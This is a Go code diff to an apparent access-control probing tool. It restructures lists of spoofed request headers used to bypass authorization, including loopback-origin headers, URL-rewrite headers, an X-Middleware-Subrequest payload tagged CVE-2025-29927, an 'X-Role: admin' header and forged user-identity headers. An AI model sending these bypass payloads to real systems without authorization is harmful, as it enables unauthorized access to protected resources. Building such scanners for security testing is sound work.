@@ -2,6 +2,7 @@ package gather
 
 import (
 	"net/http"
+	"slices"
 	"strings"
 	"unicode"
 
@@ -122,37 +123,46 @@ func methodTricks() []Trick {
 // routing headers name the real target in a header of a request to the root.
 var routing = []string{"X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Uri"}
 
-// origins are headers by which a proxy tells where a request came from.
-var origins = [][2]string{
-	{"X-Forwarded-For", "127.0.0.1"},
-	{"X-Forwarded-Host", "localhost"},
-	{"X-Forwarded-Proto", "https"},
-	{"X-Forwarded-Prefix", "/internal"},
-	{"X-Real-IP", "127.0.0.1"},
-	{"X-Client-IP", "127.0.0.1"},
-	{"X-Originating-IP", "127.0.0.1"},
-	{"X-Custom-IP-Authorization", "127.0.0.1"},
-	{"True-Client-IP", "127.0.0.1"},
-	{"CF-Connecting-IP", "127.0.0.1"},
-	{"Forwarded", "for=127.0.0.1;host=localhost;proto=https"},
-	{"Client-IP", "127.0.0.1"},
-	{"X-Middleware-Subrequest", "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"}, // CVE-2025-29927
-	{"X-Middleware-Subrequest", "middleware:middleware:middleware:middleware:middleware"},
-	{"X-Role", "admin"},
-	{"Content-Type", "application/x-www-form-urlencoded"},
+// loopback is the address that says "from inside".
+const loopback = "127.0.0.1"
+
+// origins are headers by which a proxy tells where a request came from. Those
+// that say the same travel together: whoever believes one believes the request.
+var origins = []struct {
+	name   string
+	fields []evidence.Field
+}{
+	{"client address", []evidence.Field{
+		{Name: "X-Forwarded-For", Value: loopback},
+		{Name: "X-Real-IP", Value: loopback},
+		{Name: "X-Client-IP", Value: loopback},
+		{Name: "X-Originating-IP", Value: loopback},
+		{Name: "X-Custom-IP-Authorization", Value: loopback},
+		{Name: "True-Client-IP", Value: loopback},
+		{Name: "CF-Connecting-IP", Value: loopback},
+		{Name: "Client-IP", Value: loopback},
+		{Name: "Forwarded", Value: "for=" + loopback},
+	}},
+	{"forwarded host", []evidence.Field{{Name: "X-Forwarded-Host", Value: "localhost"}, {Name: "X-Forwarded-Proto", Value: "https"}}},
+	{"X-Forwarded-Prefix", []evidence.Field{{Name: "X-Forwarded-Prefix", Value: "/internal"}}},
+	// CVE-2025-29927, for the two places a middleware may stand.
+	{"X-Middleware-Subrequest src", []evidence.Field{{Name: "X-Middleware-Subrequest", Value: "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"}}},
+	{"X-Middleware-Subrequest", []evidence.Field{{Name: "X-Middleware-Subrequest", Value: "middleware:middleware:middleware:middleware:middleware"}}},
+	{"X-Role", []evidence.Field{{Name: "X-Role", Value: "admin"}}},
+	{"Content-Type", []evidence.Field{{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}}},
 }
 
 // claims are headers by which an outer layer tells an application who calls.
 var claims = []string{"X-User-Id", "X-Remote-User", "X-Auth-User", "X-Tenant-Id", "X-Org-Id"}
 
-// maxClaims bounds how many of the owner's values are claimed in each header.
+// maxClaims bounds how many of the owner's values are claimed.
 const maxClaims = 3
 
 func headerTricks(facts []string) []Trick {
 	var out []Trick
-	with := func(name, header, value string) Trick {
+	with := func(name string, fields ...evidence.Field) Trick {
 		return Trick{"header " + name, func(method, target string) wire.Request {
-			return wire.Request{Method: method, URL: target, Header: []evidence.Field{{Name: header, Value: value}}, Effect: portal.Look}
+			return wire.Request{Method: method, URL: target, Header: slices.Clone(fields), Effect: portal.Look}
 		}}
 	}
 	for _, h := range routing {
@@ -161,16 +171,14 @@ func headerTricks(facts []string) []Trick {
 		}})
 	}
 	for _, o := range origins {
-		name := o[0]
-		if name == "X-Middleware-Subrequest" {
-			name += " " + o[1][:3]
-		}
-		out = append(out, with(name, o[0], o[1]))
+		out = append(out, with(o.name, o.fields...))
 	}
-	for _, h := range claims {
-		for _, fact := range facts[:min(maxClaims, len(facts))] {
-			out = append(out, with(h, h, fact))
+	for _, fact := range facts[:min(maxClaims, len(facts))] {
+		var who []evidence.Field
+		for _, h := range claims {
+			who = append(who, evidence.Field{Name: h, Value: fact})
 		}
+		out = append(out, with("X-User-Id and its like", who...))
 	}
 	return append(out,
 		Trick{"header Host", func(method, target string) wire.Request {
